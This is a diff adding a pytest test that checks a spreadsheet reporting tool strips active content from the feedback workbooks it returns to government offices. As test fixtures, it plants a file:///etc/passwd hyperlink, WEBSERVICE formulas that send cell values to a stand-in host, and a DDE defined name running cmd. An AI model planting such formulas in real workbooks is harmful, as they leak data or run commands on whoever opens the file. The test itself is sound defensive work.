@@ -221,3 +221,44 @@ def test_a_file_replaced_after_it_was_read_is_not_copied_into_its_feedback(
     said = [str(c.value) for row in wb[SHEET].iter_rows(max_row=4) for c in row if c.value]
     assert any("berganti setelah diperiksa" in line and path.name in line for line in said)
     assert not any("terlalu besar" in line for line in said)
+
+
+def test_the_copy_keeps_nothing_of_the_opd_that_excel_acts_on(tmp_path: Path) -> None:
+    """The feedback copy is the OPD's own file: its cell formulas became values, but its
+    hyperlinks (a web address, ``file:///etc/passwd``), a conditional format calling
+    WEBSERVICE, a defined name holding a DDE call and a data validation whose bound is a
+    formula went into ``umpan_balik/`` as they were, live when the OPD or the secretariat opens
+    it. The template's own validations (numbers, typed-out lists) stay."""
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    folder = copy_inputs(tmp_path)
+    path = input_file(folder, "DISDIK")
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Indikator"]
+    kept = len(ws.data_validations.dataValidation)
+    ws["M6"].hyperlink = "http://contoh.invalid/bocor"
+    ws["M7"].hyperlink = "file:///etc/passwd"
+    ws.conditional_formatting.add(
+        "A6:A20",
+        FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://contoh.invalid/?"&A6))']),
+    )
+    wb.defined_names["Jalankan"] = DefinedName("Jalankan", attr_text="cmd|'/c calc'!A0")
+    bound = DataValidation(type="custom", formula1='=WEBSERVICE("http://contoh.invalid/dv")')
+    ws.add_data_validation(bound)
+    bound.add("R6")
+    ws["K6"].value = "=1+1"  # an ERROR, so DISDIK gets feedback with its copy
+    wb.save(path)
+
+    result = run_report(folder, tmp_path / "out")
+    assert result.returncode == 0, result.stderr
+    feedback = tmp_path / "out" / "umpan_balik" / "DISDIK.xlsx"
+    with zipfile.ZipFile(feedback) as zf:
+        xml = b"".join(zf.read(n) for n in zf.namelist() if n.endswith((".xml", ".rels")))
+    for live in (b"contoh.invalid", b"/etc/passwd", b"WEBSERVICE", b"cmd|", b"Jalankan"):
+        assert live not in xml, live
+    assert b"<cfRule" not in xml
+    copy = openpyxl.load_workbook(feedback)
+    assert len(copy["Indikator"].data_validations.dataValidation) == kept
+    assert not [c for row in copy["Indikator"].iter_rows() for c in row if c.hyperlink]
